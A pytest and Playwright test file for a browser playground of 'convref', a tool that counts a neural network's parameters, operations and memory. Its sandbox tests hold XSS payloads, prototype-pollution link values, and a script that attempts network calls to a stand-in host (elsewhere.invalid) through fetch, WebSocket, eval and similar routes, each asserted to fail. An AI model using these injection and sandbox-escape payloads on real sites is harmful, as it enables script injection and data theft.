"""The playground runs convref in the reader's browser, and nothing before it is asked to."""

from __future__ import annotations

import ast
import base64
import contextlib
import json
import sys
from collections.abc import Callable
from typing import TYPE_CHECKING, Any

import pytest
from playwright.sync_api import Locator, Page, expect

from convref import analyze, architectures, nn
from convref.analysis.units import bytes_text
from convref.errors import ArgumentError
from convref.nn import Conv2d
from convref.weave.browser.output import LONGEST
from convref_docs import playground, playground_driver, playground_network
from convref_docs.playground_driver import answer, totals_label
from convref_docs.playground_messages import message, translated

if TYPE_CHECKING:
    from built_site import Visit

PAGE = {"en": "playground/", "zh": "zh/playground/"}
RUN = {"en": "Run", "zh": "运行"}
STOP = {"en": "Stop", "zh": "停止"}
LOADING = 120_000  # milliseconds: a busy machine
QUESTION = {
    "code": "Conv2d(3, 8, 3)",
    "shape": "3, 9, 9",
    "batch": "1",
    "dtype": "float32",
    "convention": "torchvision",
    "lang": "en",
}
installed = pytest.mark.skipif(not playground.is_installed(), reason="npm has not installed the runtime")


def opened(page: Page) -> Locator:
    place = page.locator(".convref-calculator[data-kind=playground]")
    place.scroll_into_view_if_needed()
    place.locator("textarea").wait_for()
    return place


@installed
def test_a_network_is_analyzed_when_the_reader_asks_and_again_when_it_is_changed(
    visit: Callable[..., Visit],
) -> None:
    lang = "en"
    opening = visit(PAGE[lang])
    page = opening.page
    place = opened(page)
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    page.wait_for_timeout(300)
    assert [] == [url for url in requests if "runtime" in url]
    place.get_by_role("button", name=RUN[lang], exact=True).click()
    params = place.locator(f"dd[data-result='{totals_label('params', lang, QUESTION)}']")
    expect(params).to_have_text("20,042", timeout=LOADING)
    assert 1 == place.locator("table").count()
    assert 1 == place.locator("svg").count()
    place.locator("textarea").fill('architectures.build("resnet18")')
    place.locator("[data-field=shape]").fill("3, 224, 224")
    report = analyze(architectures.build("resnet18"), (3, 224, 224))
    expect(params).to_have_text(f"{report.params:,}", timeout=LOADING)
    # A message is beside the field that it concerns, and this field alone is invalid.
    for name, wrong, told in (
        ("shape", "three", "must be whole numbers, such as 3, 224, 224"),
        ("batch", "1.5", "must be a whole number from 1 to 100,000"),
    ):
        control = place.locator(f"[data-field={name}]")
        right = control.input_value()
        control.fill(wrong)
        place.get_by_role("button", name="Run", exact=True).click()
        expect(page.locator(f"#{control.get_attribute('aria-describedby')}")).to_have_text(told)
        expect(place.locator("[aria-invalid]")).to_have_count(1)
        expect(control).to_have_attribute("aria-invalid", "true")
        expect(control).to_be_focused()
        assert "" == place.locator("p[role=alert]").text_content()
        control.fill(right)
        expect(place.locator("[aria-invalid]")).to_have_count(0, timeout=LOADING)
    assert [] == opening.trouble


@installed
@pytest.mark.parametrize("lang", ["zh"])
def test_pytorch_code_is_analyzed_and_what_is_not_followed_names_its_line(
    visit: Callable[..., Visit], lang: str
) -> None:
    opening = visit(PAGE[lang])
    place = opened(opening.page)
    titles = next(titles for titles, code, _ in playground.EXAMPLES if code == playground.PYTORCH)
    place.locator("[data-field=example]").select_option(titles[lang])
    assert playground.PYTORCH == place.locator("textarea").input_value()
    place.get_by_role("button", name=RUN[lang], exact=True).click()
    params = place.locator(f"dd[data-result='{totals_label('params', lang, QUESTION)}']")
    # two 3×3 convolutions, the shortcut and the classifier, with their biases
    expected = 32 * (3 * 9 + 1) + 64 * (32 * 9 + 1) + 64 * (32 + 1) + 10 * (64 + 1)
    expect(params).to_have_text(f"{expected:,}", timeout=LOADING)
    place.locator("textarea").fill(playground.PYTORCH.replace("return self.fc(x)", "return torch.fft.fft(x)"))
    line = 1 + playground.PYTORCH.split("\n").index("        return self.fc(x)")
    alert = place.locator("p[role=alert]")
    told = {"en": f"Line {line}: cannot read torch.fft", "zh": f"第 {line} 行：无法跟踪 torch.fft"}[lang]
    expect(alert).to_contain_text(told, timeout=LOADING)
    assert [] == opening.trouble


@installed
def test_an_endless_loop_is_stopped_and_a_mistake_names_its_line(visit: Callable[..., Visit]) -> None:
    opening = visit(PAGE["en"])
    place = opened(opening.page)
    status, alert = place.locator("[role=status]"), place.locator("p[role=alert]")
    printed = place.get_by_role("region", name="Output of the code")
    editor = place.locator("textarea")
    editor.fill("x = 1\nConv2d(0, 3, 3)")
    place.get_by_role("button", name="Run", exact=True).click()
    expect(alert).to_have_text("Line 2: Conv2d: in_channels (=0) must be at least 1", timeout=LOADING)
    selected = editor.evaluate("each => each.value.slice(each.selectionStart, each.selectionEnd)")
    assert "Conv2d(0, 3, 3)" == selected
    assert ["2"] == place.locator(".convref-lines__wrong").all_text_contents()
    editor.fill("Conv2d(3, 8, 3)")
    expect(place.locator("dl")).to_be_visible(timeout=LOADING)
    editor.fill("print('<b>begun</b>')\nwhile True: pass")  # runs by itself, after a pause
    expect(printed).to_have_text("<b>begun</b>\n")
    expect(status).to_have_text("Running …")
    place.get_by_role("button", name="Stop").click()  # takes the focus, and the field reports a change
    expect(status).to_have_text("Stopped.")
    opening.page.wait_for_timeout(1000)
    assert "Stopped." == status.text_content()
    assert 0 == place.locator("b").count()  # output is never markup
    editor.fill("Conv2d(3, 8, 3)")  # what the results are of: nothing is left of the loop
    expect(status).to_have_text("Done.")
    expect(printed).to_be_hidden()
    editor.fill("Conv2d(3, 4, 3)")
    expect(place.locator("dd").first).to_have_text("112", timeout=LOADING)
    place.get_by_role("button", name="Clear").click()
    expect(editor).to_be_focused()
    assert "" == editor.input_value()
    assert [] == opening.trouble


@installed
def test_a_shared_address_shows_its_code_and_runs_nothing(visit: Callable[..., Visit]) -> None:
    page = visit(PAGE["en"]).page
    place = opened(page)
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    hostile = 'Sequential(**{"<img src=x onerror=alert(1)>": Conv2d(3, 8, 3)})  # 卷积'
    place.locator("textarea").fill(hostile)
    place.get_by_role("button", name="Copy link").click()
    expect(place.get_by_role("button", name="Link copied")).to_be_visible()
    shared = visit(page.evaluate("navigator.clipboard.readText()").partition("/convref/")[2])
    place = opened(shared.page)
    assert hostile == place.locator("textarea").input_value()
    assert 0 == place.locator("dl").count()
    place.get_by_role("button", name="Run", exact=True).click()
    expect(place.locator("dl")).to_be_visible(timeout=LOADING)
    assert 0 == place.locator("img").count()  # text from an address is never markup
    assert [] == shared.trouble


@installed
@pytest.mark.parametrize("lang", ["zh"])
def test_results_of_an_earlier_run_are_dimmed_and_named(visit: Callable[..., Visit], lang: str) -> None:
    earlier = {"en": "The results below are those of an earlier run.", "zh": "下面是上一次运行的结果。"}[lang]
    opening = visit(PAGE[lang])
    place = opened(opening.page)
    results, live = (
        place.locator(".convref-calculator__results"),
        place.locator(".convref-calculator__earlier"),
    )
    place.get_by_role("button", name=RUN[lang], exact=True).click()
    expect(place.locator("dl")).to_be_visible(timeout=LOADING)
    expect(live).to_have_text("")
    assert "1" == results.evaluate("each => getComputedStyle(each).opacity")
    for code in ("while True: pass", "1 / 0"):  # loading and stopped, then after a mistake
        place.locator("textarea").fill(code)
        expect(live).to_have_text(earlier)
        place.get_by_role("button", name=RUN[lang], exact=True).click()
        if "while" in code:
            place.get_by_role("button", name=STOP[lang], exact=True).click()
        else:
            expect(place.locator("p[role=alert]")).not_to_be_empty(timeout=LOADING)
        expect(live).to_have_text(earlier)
        assert float(results.evaluate("each => getComputedStyle(each).opacity")) < 0.5
    place.locator("textarea").fill("Conv2d(3, 8, 3)")
    place.get_by_role("button", name=RUN[lang], exact=True).click()
    expect(live).to_have_text("", timeout=LOADING)
    assert [] == opening.trouble


FIELDS = {"shape": "3, 9, 9", "batch": "32", "dtype": "float16", "convention": "ptflops"}


@installed
def test_a_link_has_the_state_of_every_field(visit: Callable[..., Visit]) -> None:
    page = visit(PAGE["en"]).page
    place = opened(page)
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    for name, value in FIELDS.items():
        control = place.locator(f"[data-field={name}]")
        if name in {"dtype", "convention"}:
            control.select_option(value)
        else:
            control.fill(value)
    assert {"code", "example", *FIELDS} == {
        each.get_attribute("data-field") for each in place.locator("[data-field]").all()
    }
    place.locator("textarea").fill("Conv2d(3, 8, 3)")
    place.get_by_role("button", name="Copy link").click()
    expect(place.get_by_role("button", name="Link copied")).to_be_visible()
    shared = visit(page.evaluate("navigator.clipboard.readText()").partition("/convref/")[2])
    place = opened(shared.page)
    assert FIELDS == {name: place.locator(f"[data-field={name}]").input_value() for name in FIELDS}
    assert "Conv2d(3, 8, 3)" == place.locator("textarea").input_value()
    place.locator("textarea").fill("#" * 20_000)
    place.get_by_role("button", name="Copy link").click()
    expect(place.get_by_role("button", name="Too long for a link")).to_be_visible()


@installed
def test_hostile_values_in_a_link_do_nothing(visit: Callable[..., Visit]) -> None:
    hostile = "code=%00%FF&shape=%3Cimg%20src%3Dx%3E&batch=%3Cb%3E&dtype=__proto__&convention=constructor"
    opening = visit(f"{PAGE['en']}#{hostile}")
    place = opened(opening.page)
    found = {name: place.locator(f"[data-field={name}]").input_value() for name in FIELDS}
    usual = {"shape": "<img src=x>", "batch": "1", "dtype": "float32", "convention": "torchvision"}
    assert usual == found
    assert playground.EXAMPLE == place.locator("textarea").input_value()
    assert "The link could not be read" in (place.locator("[role=status]").text_content() or "")
    assert 0 == place.locator("img, b").count()
    assert [] == opening.trouble


@installed
def test_python_is_loaded_once_whatever_is_edited_meanwhile_and_its_start_is_said(
    visit: Callable[..., Visit],
) -> None:
    opening = visit(PAGE["en"])
    page = opening.page
    place = opened(page)
    assert f"{playground.sizes()[0] / 2**20:.1f} MiB" in (place.text_content() or "")
    page.evaluate("""() => {
        window.told = [];
        const status = document.querySelector(".convref-calculator [role=status]");
        new MutationObserver(() => window.told.push(status.textContent)).observe(status, { childList: true });
        window.workers = 0;
        window.Worker = class extends Worker {
            constructor(...given) { super(...given); window.workers += 1; }
        };
    }""")
    run = place.get_by_role("button", name="Run", exact=True)
    run.click()
    for number in range(2, 5):
        page.wait_for_timeout(700)
        place.locator("[data-field=batch]").fill(str(number))
    place.get_by_role("button", name="Stop").click()
    run.click()
    label = totals_label("peak", "en", QUESTION | {"batch": "4"})
    expect(place.locator("dt", has_text=label)).to_be_visible(timeout=LOADING)
    assert 1 == page.evaluate("window.workers")
    told = page.evaluate("window.told")
    order = [told.index(each) for each in ("Starting Python …", "Running …", "Done.")]
    assert order == sorted(order)
    assert 1 == told.count("Running …")
    assert [] == opening.trouble


ESCAPES = r"""
import js
import asyncio, inspect

at = "http://elsewhere.invalid/"
global_ = js.Object.getPrototypeOf(js.Object.getPrototypeOf(js.self))


def tried(name, call):
    try:
        call()
    except BaseException as error:
        print(name, type(error).__name__)
    else:
        print(name, "WORKED")


source = f"import('{at}m.js')"
tried("fetch", lambda: js.fetch(at))
tried("prototype", lambda: global_.fetch.call(js.self, at))
tried("request", lambda: js.XMLHttpRequest.new().open("GET", at))
tried("socket", lambda: js.WebSocket.new("ws://elsewhere.invalid/"))
tried("events", lambda: js.EventSource.new(at))
tried("font", lambda: js.FontFace.new("a", f"url({at})").load())
tried("worker", lambda: js.Worker.new("data:text/javascript," + source))
tried("scripts", lambda: js.importScripts(at))
tried("eval", lambda: js.eval(source))
tried("function", lambda: js.Function.new(source)())
tried("constructor", lambda: js.Object.constructor.new(source)())
tried("run_js", lambda: __import__("pyodide.code").code.run_js(source))
tried("open_url", lambda: __import__("pyodide.http").http.open_url(at))
tried("channel", lambda: js.BroadcastChannel.new("a"))
tried("store", lambda: js.indexedDB.open("a"))
js.setTimeout(source)

import convref.analysis.table
convref.analysis.table.Table._repr_html_ = lambda self: (
    '<table class="t"><tr><td onclick="alert(1)" style="background: u\\72l(' + at + 'c)">cell'
    '<img src="' + at + 'a" onerror="window.ran = 1"><script>window.ran = 1</script>'
    '<iframe src="' + at + 'f"></iframe><a href="javascript:alert(1)">link</a></td></tr></table>'
)
Conv2d(3, 8, 3)
"""


@installed
def test_code_from_a_link_reaches_neither_the_network_nor_the_page(visit: Callable[..., Visit]) -> None:
    code = base64.urlsafe_b64encode(ESCAPES.encode()).decode().rstrip("=")
    opening = visit(f"{PAGE['en']}#code={code}")
    page = opening.page
    place = opened(page)
    asked: list[str] = []
    page.context.on("request", lambda request: asked.append(request.url))
    with page.expect_response(lambda answer: answer.url.endswith("/convref/worker.js")) as worker:
        place.get_by_role("button", name="Run", exact=True).click()
    expect(place.locator("td")).to_have_text("celllink", timeout=LOADING)
    printed = (place.get_by_role("region", name="Output of the code").text_content() or "").splitlines()
    assert 15 == len(printed)
    assert [] == [line for line in printed if line.endswith("WORKED")]
    page.wait_for_timeout(300)
    assert [] == [url for url in asked if "elsewhere" in url]
    assert page.evaluate("window.ran") is None
    assert (
        "<table><tbody><tr><td>cell<img><a>link</a></td></tr></tbody></table>"
        == place.locator(".convref-calculator__layers-table").inner_html()
    )
    # The browser itself refuses the worker all other addresses.
    policy = worker.value.headers["content-security-policy"]
    folder = page.url.partition("playground/")[0] + "assets/convref/"
    assert f"connect-src {folder};" in policy
    assert f"script-src {folder} 'wasm-unsafe-eval';" in policy
    assert [] == opening.trouble


@installed
@pytest.mark.parametrize(("lang", "width"), [("en", 360), ("zh", 1280)])
def test_the_table_of_layers_is_set_as_the_tables_of_pages(
    visit: Callable[..., Visit], lang: str, width: int
) -> None:
    opening = visit(PAGE[lang], width=width)
    page = opening.page
    place = opened(page)
    place.locator("textarea").fill(
        "Sequential(Conv2d(3, 64, 3), BatchNorm2d(64), Conv2d(64, 512, 3), BatchNorm2d(512))"
    )
    place.locator("[data-field=shape]").fill("3, 224, 224")
    place.get_by_role("button", name=RUN[lang], exact=True).click()
    table = place.locator("table")
    expect(table).to_be_visible(timeout=LOADING)
    shown = table.evaluate("""table => {
        const style = (cell, name) => getComputedStyle(cell)[name];
        const cells = [...table.querySelectorAll("tbody tr:last-child td")];
        const box = table.parentElement;
        box.scrollLeft = box.scrollWidth;
        return {
            ends: cells.map((cell) => style(cell, "textAlign")),
            gap: Math.min(...cells.map((cell) => parseFloat(style(cell, "paddingLeft")))),
            scrolls: box.scrollWidth > box.clientWidth,
            first: cells[0].getBoundingClientRect().left - box.getBoundingClientRect().left,
        };
    }""")
    assert "right" not in shown["ends"][0]
    assert "right" == shown["ends"][-1]
    assert shown["gap"] >= 3
    assert (width == 360) == shown["scrolls"]
    assert abs(shown["first"]) < 3  # the names stay in view
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert [] == opening.trouble


@pytest.mark.parametrize("lang", list(PAGE))
def test_the_page_says_what_is_missing_where_the_runtime_is_not_installed(lang: str) -> None:
    shown = playground.Playground(installed=False, code="", shape="")._repr_lang_(lang)
    assert shown == {"text/html": f"<p>{playground.MISSING[lang]}</p>"}


@pytest.mark.parametrize(
    ("changes", "mistake", "line"),
    [
        ({"code": "Conv2d(3, 8, 3"}, "SyntaxError: '(' was never closed", 1),
        ({"code": "\n\n1 / 0"}, "ZeroDivisionError: division by zero", 3),
        ({"code": ""}, "the code has no network: end with one, or keep it in a variable", 0),
        ({"code": "3"}, "the code has no network: end with one, or keep it in a variable, as in net = ", 0),
        ({"code": "Conv2d(4, 8, 3)"}, "in_channels (=4) must equal the 3 channels of the input", 1),
        ({"code": "\nSequential(ReLU(),\n  Conv2d(3, 8, 40))"}, "layer 1: kernel_size (=(40, 40)) with", 3),
        (
            {"code": "b = ReLU()\nc = Conv2d(3, 4, 3,\n 4)\nSequential(a=b, d=Sequential(c, c))"},
            "layer d.1: in_",
            2,
        ),
        ({"code": "Sequential(*[Conv2d(3, 4, 3)] * 2)"}, "layer 1: in_channels (=3) must equal", 1),
        (
            {"code": "torch.nn.Conv2d(3, 8, 3)"},
            "NameError: name 'torch' is not defined; add import torch as",
            1,
        ),
        (
            {"code": "x = 1\nF.relu(x)"},
            "NameError: name 'F' is not defined; add import torch.nn.functional as",
            2,
        ),
        (
            {"code": "class A(nn.Module): ..."},
            "AttributeError: convref.nn has no 'Module'; add import torch.nn",
            1,
        ),
        ({"dtype": "float8"}, "unknown dtype 'float8'", 0),
    ],
)
def test_a_mistake_is_told_with_its_line(changes: dict[str, str], mistake: str, line: int) -> None:
    found = json.loads(answer(json.dumps(QUESTION | changes)))
    assert found["mistake"].startswith(mistake)
    assert line == found["line"]


@pytest.mark.parametrize(
    ("changes", "field", "mistake"),
    [
        ({"shape": "3, x, 9"}, "shape", "must be whole numbers, such as 3, 224, 224"),
        ({"shape": "3, 0, 9"}, "shape", "must have sizes from 1 to 999,999,999"),
        ({"shape": "3, 99999999999, 9"}, "shape", "must have sizes from 1 to 999,999,999"),
        ({"batch": "0"}, "batch", "must be a whole number from 1 to 100,000"),
        ({"batch": "1.5", "lang": "zh"}, "batch", "必须是 1 到 100,000 的整数"),
    ],
)
def test_a_message_for_a_field_names_the_field(changes: dict[str, str], field: str, mistake: str) -> None:
    found = json.loads(answer(json.dumps(QUESTION | changes)))
    assert {"mistake": mistake, "line": 0, "field": field} == found


@pytest.mark.parametrize("shape", ["9, 9", "1, 3, 9, 9", "1, 9, 9"])
def test_a_shape_that_the_first_layer_does_not_take_is_doubted(shape: str) -> None:
    for code in ("Conv2d(3, 8, 3)", CLASS.replace("FORWARD", "self.conv(x)")):
        found = json.loads(answer(json.dumps(QUESTION | {"code": code, "shape": shape})))
        assert found["doubt"].startswith("does the network take this shape?")
        assert found["line"] == (1 if code.startswith("Conv2d") else 10)
    other = json.loads(
        answer(json.dumps(QUESTION | {"code": "Sequential(Conv2d(3, 8, 3), Conv2d(4, 8, 3))"}))
    )
    assert "doubt" not in other


def test_a_hint_names_the_networks_of_torchvision(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "torchvision", None)
    found = json.loads(answer(json.dumps(QUESTION | {"code": "import torchvision"})))
    assert found["mistake"].endswith('; its networks are here as architectures.build("resnet18")')


CLASS = """\
import torch.nn as nn
import torch

class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.conv = nn.Conv2d(3, 8, 3)

    def forward(self, x):
        return FORWARD
"""


@pytest.mark.parametrize("end", ["", "net = Net()", "Net()", "model = Net()\nmodel", "net = Net"])
def test_a_class_of_pytorch_is_described_however_it_is_given(end: str) -> None:
    code = CLASS.replace("FORWARD", "torch.relu(self.conv(x))") + end
    found = json.loads(answer(json.dumps(QUESTION | {"code": code})))
    assert "224" == found["totals"]["Parameters"]


@pytest.mark.parametrize("shape", ["3, 9, 9", "1, 9, 9"])
def test_the_code_is_parsed_once(monkeypatch: pytest.MonkeyPatch, shape: str) -> None:
    parse, texts = ast.parse, []

    def counted(source: Any, *given: Any, **options: Any) -> ast.AST:
        texts.append(source)
        return parse(source, *given, **options)

    monkeypatch.setattr(ast, "parse", counted)
    playground_network.parsed.cache_clear()
    for code in ("Conv2d(3, 8, 3)", CLASS.replace("FORWARD", "self.conv(x)")):
        found = json.loads(answer(json.dumps(QUESTION | {"code": code, "shape": shape})))
        assert ("totals" in found) == (shape == "3, 9, 9")
        assert 1 == texts.count(code)


@pytest.mark.parametrize(
    ("forward", "mistake"),
    [
        ("torch.fft.fft(x)", "cannot read torch.fft: it is not supported without PyTorch"),
        ("x.view(5, -1)", "cannot read view: a tensor of shape (2, 3, 9, 9) has 486 elements and cannot"),
        ("self.conv(x[:, :1])", "cannot read Conv2d in conv: in_channels (=3) must equal the 1 channel"),
        ("x if x.sum() > 0 else -x", "cannot read item: a branch, a loop, an index or a number depends on"),
        ("self.cnv(x)", "cannot run the module's forward: 'Net' object has no attribute 'cnv'"),
    ],
)
def test_what_is_not_followed_in_pytorch_code_names_its_line(forward: str, mistake: str) -> None:
    code = CLASS.replace("FORWARD", forward)
    found = json.loads(answer(json.dumps(QUESTION | {"code": code})))
    assert found["mistake"].startswith(mistake)
    assert 10 == found["line"]


def test_every_example_of_the_page_is_answered() -> None:
    for _, code, shape in playground.EXAMPLES:
        assert "totals" in json.loads(answer(json.dumps(QUESTION | {"code": code, "shape": shape})))


MODULES = "import torch\nfrom torch import nn\n"


@pytest.mark.parametrize(
    "code",
    [
        "net = Conv2d(3, 8, 3)\nprint(net)",
        "first = Conv2d(3, 4, 3)\nanything = Conv2d(3, 8, 3)",
        "first = Conv2d(3, 4, 3)\nfor size in (1, 3):\n    last = Conv2d(3, 8, size)",
        MODULES + "model = nn.Sequential(nn.Conv2d(3, 8, 3), nn.ReLU())",
        MODULES + "m = nn.Conv2d(3, 8, 3)\ncriterion = nn.CrossEntropyLoss()\nsoftmax = nn.Softmax(1)",
        MODULES + "m = nn.Sequential(nn.Conv2d(3, 8, 3))\npart = m[0]\nprint(m)",
        MODULES + "m = nn.Conv2d(3, 8, 3)\nm(torch.zeros(1, 3, 9, 9))",
        MODULES + "m = nn.Sequential(nn.LazyConv2d(8, 3))",
    ],
    ids=["net", "any name", "loop", "model", "loss", "part", "call", "lazy"],
)
def test_the_last_variable_that_holds_a_network_is_taken(code: str) -> None:
    found = json.loads(answer(json.dumps(QUESTION | {"code": code})))
    assert "224" == found["totals"]["Parameters"]


def test_the_table_to_download_is_that_of_the_report() -> None:
    found = json.loads(answer(json.dumps(QUESTION)))
    assert found["csv"] == analyze(Conv2d(3, 8, 3), (3, 9, 9)).table().to_csv()


@pytest.mark.parametrize("lang", list(PAGE))
def test_a_class_that_needs_arguments_is_named_with_them(lang: str) -> None:
    code = CLASS.replace("__init__(self)", "__init__(self, width, depth)").replace("FORWARD", "x")
    found = json.loads(answer(json.dumps(QUESTION | {"code": code, "lang": lang})))
    told = {
        "en": "the class Net needs width, depth: make one",
        "zh": "类 Net 需要参数 width, depth：请在最后",
    }
    assert found["mistake"].startswith(told[lang])


def test_a_training_step_needs_more_than_inference() -> None:
    code = "Sequential(Conv2d(3, 16, 3, padding=1), Conv2d(16, 32, 3, padding=1))"
    question = QUESTION | {"code": code, "shape": "3, 32, 32", "batch": "4"}
    totals = json.loads(answer(json.dumps(question)))["totals"]
    report = analyze(eval(code, vars(nn)), (3, 32, 32), batch=4)
    peak = report.training_memory("adam").peak
    assert peak > report.peak_activation_bytes
    assert totals[totals_label("peak", "en", question)] == bytes_text(report.peak_activation_bytes)
    assert totals[totals_label("training", "en", question)].startswith(bytes_text(peak))


def test_the_operations_have_a_unit_and_do_not_depend_on_the_batch() -> None:
    found = [json.loads(answer(json.dumps(QUESTION | {"batch": batch})))["totals"] for batch in ("1", "9")]
    label = "Multiply-accumulates (MACs) of one input, as torchvision counts them"
    assert ["10,584"] * 2 == [totals[label] for totals in found]


CHINESE = {
    "Conv2d(3, 8, 3": "SyntaxError：“(”没有闭合",
    "Conv2d(3，8, 3)": "SyntaxError：无效的字符“，”（U+FF0C），可能是中文标点",
    "1 / 0": "ZeroDivisionError：除数为零",
    "Cov2d(3, 8, 3)": "NameError：名称 Cov2d 没有定义",
    "Conv2d(3, 8)": "TypeError：Conv2d.__init__() 缺少参数 kernel_size",
    "Conv2d(0, 8, 3)": "Conv2d：in_channels（=0）至少应为 1",
    "Conv2d(4, 8, 3)": "in_channels（=4）必须等于输入的通道数 3",
    "MaxPool2d(2, padding=2)": "MaxPool2d：padding（=2）最多为 kernel_size（=2）的一半",
    "Sequential(Conv2d(3, 8, 3), Flatten(), Linear(8, 1))": "层 2：in_features（=8）必须等于输入形状 (392,)",
    "architectures.build('resnet51')": "没有名为 'resnet51' 的网络；最接近的是 ",
    "import nowhere": "ModuleNotFoundError：没有名为 nowhere 的模块",
    "": "代码里没有网络：请以网络结尾",
    CLASS.replace(
        "FORWARD", "x.view(5, -1)"
    ): "无法跟踪 view：形状为 (2, 3, 9, 9) 的张量有 486 个元素，不能看作 (5, -1)",
    CLASS.replace("FORWARD", "self.cnv(x)"): "无法跟踪 forward：Net 对象没有属性 cnv；最接近的是 'conv'",
    CLASS.replace(
        "FORWARD", "x if x.sum() > 0 else -x"
    ): "无法跟踪 item：分支、循环、下标或某个数取决于张量中的值",
    CLASS.replace("FORWARD", "x + self.conv(x)"): "无法跟踪 add：形状 (2, 3, 9, 9) 与 (2, 8, 7, 7) 不能广播",
}


@pytest.mark.parametrize("code", CHINESE)
def test_a_mistake_is_told_in_chinese(code: str) -> None:
    found = json.loads(answer(json.dumps(QUESTION | {"code": code, "lang": "zh"})))
    assert found["mistake"].startswith(CHINESE[code])


def test_what_has_no_translation_stays_english_in_a_chinese_sentence() -> None:
    assert translated("the moon is full") is None
    assert "convref 报告：the moon is full" == message(ArgumentError("the moon is full"), "zh")
    assert "OSError：the moon is full" == message(OSError("the moon is full"), "zh")


def printed_by(code: str, shape: str = "3, 9, 9") -> list[str]:
    """The pieces of output that the code prints, as they are sent."""
    sent: list[str] = []
    output = playground_driver.Output(sent.append, "CUT")
    with contextlib.redirect_stdout(output):
        playground_network.network(code, tuple(map(int, shape.split(","))))
    output.flush()
    return sent


def test_each_line_is_sent_when_it_is_printed_and_a_flood_is_cut() -> None:
    assert ["1\n", "2\n", "3"] == printed_by("print(1); print(2); print(3, end='')\nConv2d(3, 8, 3)")
    flood = "".join(printed_by("for each in range(99999): print(each)\nConv2d(3, 8, 3)"))
    assert flood.startswith("0\n1\n2\n")
    assert flood.endswith("CUT")
    assert len(flood) == LONGEST + len("CUT")


def test_what_a_forward_prints_is_shown_once_although_it_is_followed_several_times() -> None:
    code = CLASS.replace("return FORWARD", "print(tuple(x.shape)); return self.conv(x)")
    assert ["(2, 3, 9, 9)\n"] == printed_by(code)


def test_the_archive_has_all_that_the_packages_import() -> None:
    names = {name for _, name in playground.package()}
    assert {
        "convref_docs/playground_driver.py",
        "convref_docs/playground_rules.py",
        "convref/__init__.py",
        "convref/draw/diagram/flow.py",
        "convref/standin/tape.py",
    } <= names
    assert not any(name.startswith("convref/torch") for name in names)
    assert {"__init__.py", *(f"browser/{name}.py" for name in ("__init__", "output", "translation"))} == {
        name.removeprefix("convref/weave/") for name in names if name.startswith("convref/weave/")
    }
